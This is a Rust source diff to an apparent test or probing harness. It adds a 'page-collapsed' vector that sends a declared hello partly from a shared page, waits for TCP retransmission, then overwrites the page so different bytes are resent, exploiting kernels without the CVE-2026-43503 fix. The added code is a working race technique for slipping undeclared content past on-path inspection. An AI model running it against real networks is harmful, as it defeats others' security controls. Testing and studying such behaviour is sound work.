@@ -9,7 +9,7 @@ use std::{
     net::{TcpListener, TcpStream},
     os::fd::{AsRawFd, OwnedFd},
     thread,
-    time::Duration,
+    time::{Duration, Instant},
 };
 
 use libc::IPPROTO_TCP;
@@ -98,14 +98,7 @@ pub(super) const VECTORS: &[Vector] = &[
             race(job, |socket, page| {
                 // Of one segment: what is written waits for the rest.
                 page.send(socket, 60, libc::MSG_MORE)?;
-                let place = sys::place(&60i64);
-                let arguments = [
-                    socket.as_raw_fd() as usize,
-                    page.file.as_raw_fd() as usize,
-                    place,
-                    LENGTH - 60,
-                ];
-                sys::call(libc::SYS_sendfile, &arguments).map(drop)
+                send_from(&page.file, socket, 60, LENGTH - 60)
             })
         },
     ),
@@ -153,6 +146,11 @@ pub(super) const VECTORS: &[Vector] = &[
         },
     ),
     vector(
+        "page-collapsed",
+        "one octet written, the rest from a page; what is sent again is one packet of both",
+        collapsed,
+    ),
+    vector(
         "page-second-hello",
         "the hello that is asked for again, from a page",
         |job| {
@@ -192,6 +190,43 @@ fn race_from(job: &Job, behind_a_first: bool, send: Send) -> Attempt {
         thread::sleep(SETTLE);
     }
     linger(once()?.into())
+}
+
+/// A first octet alone is no hello and waits to be sent again. Kernels without the mending of
+/// CVE-2026-43503 forget, when they put it together with what was sent behind it, that this is a
+/// page that others hold.
+fn collapsed(job: &Job) -> Attempt {
+    let declared = of_length(Hello::named(DECLARED));
+    let stranger = of_length(hello(job));
+    for turn in 0..8 {
+        let page = Page::with(&declared)?;
+        let socket = sys_open(job)?;
+        sys::set(&socket, IPPROTO_TCP, libc::TCP_NODELAY, &1i32.to_ne_bytes())?;
+        sys::send(&socket, &declared[..1], 0, &[])?;
+        thread::sleep(SETTLE);
+        send_from(&page.file, &socket, 1, LENGTH - 1)?;
+        // Half of the tries win where nothing is held back.
+        let end = Instant::now() + Duration::from_millis(600);
+        while turn % 2 == 1 && Instant::now() < end && sent_again(&socket)? == 0 {}
+        page.memory.write(0, &stranger);
+        thread::sleep(SETTLE);
+    }
+    Ok(())
+}
+
+/// Segments that were sent again: `tcpi_total_retrans`, `include/uapi/linux/tcp.h`.
+fn sent_again(socket: &OwnedFd) -> Result<u32, Errno> {
+    let mut info = [0u32; 26];
+    let mut length = size_of_val(&info);
+    let arguments = [
+        socket.as_raw_fd() as usize,
+        IPPROTO_TCP as usize,
+        libc::TCP_INFO as usize,
+        sys::place_mut(&mut info),
+        sys::place_mut(&mut length),
+    ];
+    sys::call(libc::SYS_getsockopt, &arguments)?;
+    Ok(info[25])
 }
 
 /// Puts declared packets in front, behind which others wait where the wire is slow.
@@ -288,7 +323,10 @@ impl Pipe {
 }
 
 fn sendfile(from: &OwnedFd, to: &OwnedFd, length: usize) -> Result<(), Errno> {
-    let start = 0i64;
+    send_from(from, to, 0, length)
+}
+
+fn send_from(from: &OwnedFd, to: &OwnedFd, start: i64, length: usize) -> Result<(), Errno> {
     let arguments = [
         to.as_raw_fd() as usize,
         from.as_raw_fd() as usize,
